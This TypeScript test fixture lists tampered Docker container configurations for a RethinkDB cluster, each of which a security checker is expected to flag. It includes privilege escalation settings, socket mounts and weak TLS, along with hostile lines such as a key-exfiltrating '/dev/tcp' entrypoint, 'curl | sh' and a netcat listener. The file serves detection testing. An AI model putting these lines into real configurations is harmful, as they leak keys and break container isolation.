/** Weakenings of what a container may do, as a tampered component would declare it. */
import { PASSWORD } from "../../support/recorded";
import { UNKNOWN } from "../../../judge/model/resources";
import { args, argv, type Edit, hand, inputs, remove, set, without, withWords } from "../change";
import { inCluster, outside, weak, type Weakening } from "./gate";
import { HARDENED } from "../corpus/lives";

type Edited = Parameters<Parameters<typeof inputs>[0]>[0];
const n1 = (edit: (i: Edited) => unknown) => hand(inputs(edit, "n1"));
const told = (edit: (words: string[]) => string[]) => hand(argv(edit, "n1"));
const plain = (image: string): Record<string, unknown> => ({ image, ...HARDENED });
const ui = args({ webUi: { enabled: true }, webUiPassword: PASSWORD });
const withUi = (...edits: readonly Edit[]) => args({ webUi: { enabled: true }, webUiPassword: PASSWORD }, ...edits);

export const containers: readonly Weakening[] = [
  weak(
    "a server is told another volume than its labels say",
    "weakened",
    "entry/identity",
    told(([, ...rest]) => ["0123/n1/0", ...rest]),
  ),
  weak(
    "a server has the name of another in the cluster",
    "weakened",
    "entry/identity",
    told(set("--server-name", "n0")),
  ),
  weak(
    "a server has the label of another cluster",
    "weakened",
    "entry/identity",
    n1((i) => {
      i.labels.forEach((l) => (l.value = l.label === "pulumi-rethinkdb.cluster" ? "other" : l.value));
    }),
  ),
  weak(
    "a server swaps as Docker lets it",
    "weakened",
    "limits/swap",
    n1((i) => delete i["memorySwap"]),
  ),
  weak(
    "a server is on no network of its cluster",
    "weakened",
    "network/own",
    n1((i) => (i.networksAdvanced = [])),
  ),
  weak(
    "a server has no fixed address",
    "weakened",
    "network/fixed-address",
    n1((i) => (i.networksAdvanced = [{ name: "orders" }])),
  ),
  weak(
    "a command line is known only when it is applied",
    "unknown",
    "unknown",
    n1((i) => Object.assign(i, { command: UNKNOWN })),
  ),
  weak("data lies where the image wants it", "weakened", "argv/option/directory", told(without("--directory"))),
  weak(
    "the web UI has no certificate of its CA",
    "weakened",
    "ui/certificate",
    withUi(remove("ui-driver-certificate")),
    ui,
  ),
  weak(
    "a denial of new privileges is taken back by a later option",
    "weakened",
    "container/no-new-privileges",
    n1((i) => i.securityOpts.push("no-new-privileges=false")),
  ),
  weak(
    "a denial of new privileges is gone",
    "weakened",
    "container/no-new-privileges",
    n1((i) => (i.securityOpts = [])),
  ),
  weak(
    "a denial of new privileges has a value of no boolean",
    "weakened",
    "container/no-new-privileges",
    n1((i) => (i.securityOpts = ["no-new-privileges:yes"])),
  ),
  weak(
    "seccomp is off",
    "weakened",
    "container/confinement-off",
    n1((i) => i.securityOpts.push("seccomp=unconfined")),
  ),
  weak(
    "labels of the confinement are off",
    "weakened",
    "container/confinement-off",
    n1((i) => i.securityOpts.push("label:disable")),
  ),
  weak(
    "the system's paths are no longer masked",
    "weakened",
    "container/",
    n1((i) => i.securityOpts.push("systempaths=unconfined")),
  ),
  weak(
    "another profile of seccomp is taken",
    "weakened",
    "container/security-option",
    n1((i) => i.securityOpts.push("seccomp=/tmp/all.json")),
  ),
  weak(
    "a capability is added by its short name",
    "weakened",
    "container/capability",
    n1((i) => (i.capabilities = { drops: ["ALL"], adds: ["net_raw"] })),
  ),
  weak(
    "all capabilities are added that were dropped",
    "weakened",
    "container/capability/ALL",
    n1((i) => (i.capabilities = { drops: ["ALL"], adds: ["ALL"] })),
  ),
  weak(
    "only one capability is dropped",
    "weakened",
    "container/capabilities-dropped",
    n1((i) => (i.capabilities = { drops: ["NET_RAW"] })),
  ),
  weak(
    "a server is privileged",
    "weakened",
    "container/privileged",
    n1((i) => (i["privileged"] = true)),
  ),
  weak(
    "a server runs as root by another spelling",
    "weakened",
    "container/user",
    n1((i) => (i["user"] = "00:0")),
  ),
  weak(
    "a server is in the group of root",
    "weakened",
    "container/group",
    n1((i) => (i["user"] = "28015:0")),
  ),
  weak(
    "a server is in the group of the engine",
    "weakened",
    "container/extra-group",
    n1((i) => (i["groupAdds"] = ["999"])),
  ),
  weak(
    "a device of the host is handed in",
    "weakened",
    "container/device",
    n1((i) => (i["devices"] = [{ hostPath: "/dev/kmsg" }])),
  ),
  weak(
    "memory is shared with other containers",
    "weakened",
    "container/namespace",
    n1((i) => (i["ipcMode"] = "shareable")),
  ),
  weak(
    "processes of another container are seen",
    "weakened",
    "container/namespace",
    n1((i) => (i["pidMode"] = "container:abc")),
  ),
  weak(
    "users of the host are its users",
    "weakened",
    "container/namespace",
    n1((i) => (i["usernsMode"] = "host")),
  ),
  weak(
    "a kernel setting is another",
    "weakened",
    "container/sysctl",
    n1((i) => (i["sysctls"] = { "net.ipv4.ip_forward": "1" })),
  ),
  weak(
    "a server stands on the network of others by its mode",
    "weakened",
    "container/network-mode",
    n1((i) => (i["networkMode"] = "web")),
  ),
  weak(
    "a server stands on the network of the host",
    "weakened",
    "container/network-mode",
    n1((i) => (i["networkMode"] = "host")),
  ),
  weak(
    "a server has the name of another one on its network",
    "weakened",
    "input/other/networksAdvanced",
    n1((i) => {
      i.networksAdvanced.forEach((n) => Object.assign(n, { aliases: ["orders-n0"] }));
    }),
  ),
  weak(
    "a host of others stands behind a peer's name",
    "weakened",
    "input/other/hosts",
    n1((i) => (i["hosts"] = [{ host: "orders-n0", ip: "203.0.113.9" }])),
  ),
  weak(
    "names are looked up elsewhere",
    "weakened",
    "input/other/dns",
    n1((i) => (i["dns"] = ["203.0.113.9"])),
  ),
  weak(
    "another runtime runs the container",
    "weakened",
    "input/other/runtime",
    n1((i) => (i["runtime"] = "sysbox")),
  ),
  weak(
    "a variable preloads a library",
    "weakened",
    "environment/variable/LD_PRELOAD",
    n1((i) => (i["envs"] = ["LD_PRELOAD=/data/x.so"])),
  ),
  weak(
    "a file replaces one of the image",
    "weakened",
    "mount/upload",
    n1((i) => (i["uploads"] = [{ file: "/usr/bin/rethinkdb", content: "x" }])),
  ),
  weak(
    "the engine's socket is mounted",
    "weakened",
    "mount/source",
    n1((i) => i.volumes.push({ hostPath: "/var/run/docker.sock", containerPath: "/s", readOnly: true })),
  ),
  weak(
    "a mounted volume is really a path of the host",
    "weakened",
    "input/other/mounts",
    n1(
      (i) =>
        (i["mounts"] = [
          {
            type: "volume",
            source: "orders-n1-data",
            target: "/more",
            readOnly: true,
            volumeOptions: { driverOptions: { type: "none", o: "bind", device: "/" } },
          },
        ]),
    ),
  ),
  weak(
    "a data volume is really a path of the host",
    "unknown",
    "volume/driver",
    hand(inputs((i) => (i["driverOpts"] = { type: "none", o: "bind", device: "/etc" }), "n1-data")),
  ),
  weak(
    "a server reads the keys of another",
    "weakened",
    "mount/source",
    n1((i) => i.volumes.push({ volumeName: "orders-n0-tls", containerPath: "/other", readOnly: true })),
  ),
  weak(
    "a server can write its own list of peers",
    "weakened",
    "mount/read-only",
    n1((i) => {
      i.volumes.forEach((v) => (v.readOnly = false));
    }),
  ),
  weak(
    "programs run from a memory file system",
    "weakened",
    "mount/tmpfs",
    n1((i) => (i["tmpfs"] = { "/tmp": "exec,size=64m" })),
  ),
  weak(
    "a memory file system lies over the certificates",
    "unknown",
    "mount/tmpfs",
    n1((i) => (i["tmpfs"] = { ...(i["tmpfs"] as object), "/tls": "size=1m" })),
  ),
  weak(
    "the root file system can be written",
    "weakened",
    "container/read-only",
    n1((i) => (i["readOnly"] = false)),
  ),
  weak(
    "logs go to another place",
    "unknown",
    "limits/log-driver",
    n1((i) => (i["logDriver"] = "syslog")),
  ),
  weak(
    "logs go to a stranger's address",
    "unknown",
    "input/other/logOpts",
    n1((i) => (i["logOpts"] = { ...(i["logOpts"] as object), "syslog-address": "tcp://203.0.113.9" })),
  ),
  weak(
    "the health check verifies nothing",
    "weakened",
    "health/verifies",
    n1((i) => (i.healthcheck = { tests: ["CMD", "true"] })),
  ),
  weak(
    "the health check names verification in a comment",
    "unknown",
    "health/test",
    n1((i) => (i.healthcheck = { tests: ["CMD", "bash", "-c", "true # openssl -verify_return_error"] })),
  ),
  weak(
    "the entry script starts on any volume",
    "unknown",
    "entry/script",
    n1((i) => (i["entrypoints"] = ["bash", "-c", '# /data/identity exit 64\nexec rethinkdb "$@"', "rethinkdb"])),
  ),
  weak(
    "the entry script sends the keys away first",
    "unknown",
    "entry/script",
    n1(
      (i) =>
        (i["entrypoints"] = (i["entrypoints"] as string[]).map((w) =>
          w.startsWith("want") ? `cat /tls/*/*.key >/dev/tcp/203.0.113.9/1\n${w}` : w,
        )),
    ),
  ),
  weak(
    "a server is killed when it is replaced",
    "weakened",
    "stop/grace",
    n1((i) => (i["destroyGraceSeconds"] = 1)),
  ),
  weak(
    "a server is stopped by a signal it does not know",
    "weakened",
    "stop/signal",
    n1((i) => (i["stopSignal"] = "KILL")),
  ),
  weak(
    "a server is known under another name",
    "unknown",
    "container/names",
    n1((i) => (i["hostname"] = "orders-n0")),
  ),
  weak(
    "the guards do not find a server",
    "weakened",
    "label/identity",
    n1((i) => (i.labels = [])),
  ),
  weak(
    "a port nobody knows is published",
    "weakened",
    "port/published/4444",
    n1((i) => i.ports.push({ internal: 4444, external: 4444, ip: "10.0.0.9" })),
  ),
  weak(
    "the cluster port is published over another protocol",
    "weakened",
    "port/published/29015",
    n1((i) => i.ports.push({ internal: 29015, external: 29015, ip: "0.0.0.0", protocol: "udp" })),
  ),
  weak(
    "every exposed port is published",
    "weakened",
    "port/publish-all",
    n1((i) => (i["publishAllPorts"] = true)),
  ),
  weak("the http port is on", "weakened", "http/admin", told(without("--no-http-admin"))),
  weak(
    "peers are verified against the driver CA",
    "weakened",
    "tls/cluster-ca-file",
    told(set("--cluster-tls-ca", "/tls/0123456789abcdef/driver-ca.pem")),
  ),
  weak(
    "peers are verified against a file that the server can write",
    "weakened",
    "tls/cluster-ca-file",
    told(set("--cluster-tls-ca", "/data/cluster-ca.pem")),
  ),
  weak(
    "peers are verified against two CAs",
    "weakened",
    "tls/cluster-ca-file",
    told(withWords("--cluster-tls-ca", "/tls/0123456789abcdef/driver-ca.pem")),
  ),
  weak(
    "peers are verified against the CA of another generation",
    "weakened",
    "tls/one-folder",
    told(set("--cluster-tls-ca", "/tls/0123456789abcdef/cluster-ca.pem")),
  ),
  weak(
    "the driver port presents another certificate",
    "unknown",
    "tls/file",
    told(set("--driver-tls-cert", "/data/driver.pem")),
  ),
  weak(
    "old versions of TLS are accepted, said after the new",
    "weakened",
    "tls/min-protocol",
    told(withWords("--tls-min-protocol", "TLSv1")),
  ),
  weak(
    "weak ciphers are accepted",
    "weakened",
    "tls/ciphers",
    told(withWords("--tls-ciphers", "EECDH+AESGCM:DES-CBC3-SHA")),
  ),
  weak("another curve is taken", "unknown", "tls/curve", told(withWords("--tls-ecdh-curve", "secp224r1"))),
  weak("Diffie-Hellman parameters are named", "unknown", "tls/dh", told(withWords("--tls-dhparams", "/data/dh.pem"))),
  weak(
    "a second bind opens the cluster port to all",
    "weakened",
    "bind/cluster",
    told(withWords("--bind-cluster", "all")),
  ),
  weak("an option with an equals sign is no option that is read", "weakened", "argv/", told(withWords("--bind=all"))),
  weak(
    "the first password is written",
    "weakened",
    "argv/initial-password",
    told(withWords("--initial-password", "hunter2")),
  ),
  weak(
    "peers to join are named on the command line",
    "weakened",
    "bind/join-in-argv",
    told(withWords("--join", "203.0.113.9:29015")),
  ),
  weak(
    "other peers to join are named on the command line",
    "unknown",
    "bind/join-in-argv",
    told(withWords("--join", "203.0.113.9:29015")),
    told(withWords("--join", "10.213.0.10:29015")),
  ),
  weak(
    "data lies outside of its volume",
    "weakened",
    "argv/option/directory",
    told(set("--directory", "/tmp/rethinkdb")),
  ),
  weak(
    "queries go out through a proxy",
    "unknown",
    "http/proxy",
    told(withWords("--reql-http-proxy", "203.0.113.9:3128")),
  ),
  weak(
    "a second configuration file is read",
    "weakened",
    "argv/unread-option/config-file",
    told(withWords("--config-file", "/data/more.conf")),
  ),
  weak("an option that no reader knows", "weakened", "argv/unread-option", told(withWords("--io-uring", "1"))),
  weak("servers call home", "weakened", "argv/update-check", told(without("--no-update-check"))),
  weak("words without an option stand in argv", "weakened", "argv/stray", told(withWords("all"))),
  weak(
    "a server runs as a proxy",
    "unknown",
    "argv/subcommand",
    told(([first = "", ...rest]) => [first, "proxy", ...rest]),
  ),
  weak(
    "a server's peers dial a stranger for it",
    "weakened",
    "bind/canonical",
    told(withWords("--canonical-address", "203.0.113.9")),
  ),
  weak("the cache is larger than the memory", "weakened", "limits/cache", told(withWords("--cache-size", "9999"))),
  weak(
    "a container with the name of a program joins the cluster's network",
    "not judged",
    "accounts",
    hand(
      inCluster("docker:index/container:Container", "db-accounts", {
        ...plain("evil:1.0.0"),
        name: "orders-accounts",
        hostname: "orders-accounts",
        networksAdvanced: [{ name: "orders" }],
      }),
    ),
  ),
  weak(
    "a container that nobody knows joins the cluster",
    "not judged",
    "spy",
    hand(inCluster("docker:index/container:Container", "db-spy", plain("evil:1.0.0"))),
  ),
  weak(
    "a container beside the cluster is on its network",
    "weakened",
    "network/member/orders",
    hand(
      outside("docker:index/container:Container", "spy", {
        ...plain("spy:1.0.0"),
        networksAdvanced: [{ name: "orders" }],
      }),
    ),
  ),
  weak(
    "a container beside the cluster reads a server's keys",
    "not judged",
    "spy",
    hand(
      outside("docker:index/container:Container", "spy", {
        ...plain("spy:1.0.0"),
        volumes: [{ volumeName: "orders-n0-tls", containerPath: "/k", readOnly: true }],
      }),
    ),
  ),
  weak(
    "a resource of a kind that nobody knows",
    "not judged",
    "remote",
    hand(outside("command:remote:Command", "remote", { create: "curl example.com | sh" })),
  ),
  weak(
    "the proxy's script is another",
    "unknown",
    "ui/proxy-script",
    withUi(inputs((i) => (i["entrypoints"] = ["bash", "-c", 'nc -l 1 &\nshift 3\nrethinkdb "$@"', "bash"]), "ui-peer")),
    ui,
  ),
  weak(
    "nginx runs another configuration",
    "weakened",
    "ui/listener",
    withUi(inputs((i) => (i.command = ["-c", "/tls/nginx.conf", "-g", "daemon off;"]), "ui")),
    ui,
  ),
  weak(
    "nginx gets another server block on its command line",
    "weakened",
    "ui/listener",
    withUi(inputs((i) => (i.command = [...(i.command ?? []).slice(0, -1), "daemon off; http {}"]), "ui")),
    ui,
  ),
  weak(
    "the web UI asks for no password",
    "weakened",
    "ui/password",
    withUi(inputs((i) => delete i.environment["PASSWORD_MARK"], "ui-prepare")),
    ui,
  ),
  weak(
    "the proxy serves its http port to the network",
    "weakened",
    "ui/proxy-http",
    withUi(argv(set("--bind-http", "all"), "ui-peer")),
    ui,
  ),
  weak(
    "another container reaches the socket of the web UI",
    "weakened",
    "ui/socket",
    withUi(
      inputs((i) => i.volumes.push({ volumeName: "orders-ui-socket", containerPath: "/socket", readOnly: true }), "n1"),
    ),
    ui,
  ),
];
